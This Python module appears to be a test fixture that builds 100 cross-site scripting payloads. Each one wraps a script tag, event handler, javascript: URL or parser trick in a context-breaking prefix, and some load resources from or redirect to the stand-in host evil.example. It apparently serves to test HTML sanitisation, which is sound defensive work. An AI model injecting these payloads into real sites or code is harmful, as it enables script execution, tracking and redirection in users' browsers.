"""A hundred texts that would run a script, fetch something or break out of their place, if they were taken for more than text."""

from __future__ import annotations

MARK = "geoplayHacked"
_RUN = f"window.{MARK}=1"
_TAGS = (
    "<script>{run}</script>",
    "<sCrIpT/src=data:,{run}></ScRiPt>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{mark}=1</script>'>",
    "<iframe src='javascript:{run}'>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<a href='javascript:{run}'>click</a>",
    "<form action='javascript:{run}'><button>go</button></form>",
    "<object data='javascript:{run}'>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<template><script>{run}</script></template>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<img src='http://evil.example/pixel.png'>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>",
)
# What such a text may stand in: between tags, in an attribute, in a script, in a comment.
_AROUND = ("{tag}", "\"'>{tag}", "</title></textarea></style></script>{tag}", "-->]]>{tag}<!--")
PAYLOADS = tuple(around.format(tag=tag.format(run=_RUN, mark=MARK)) for tag in _TAGS for around in _AROUND)
assert len(PAYLOADS) == 100
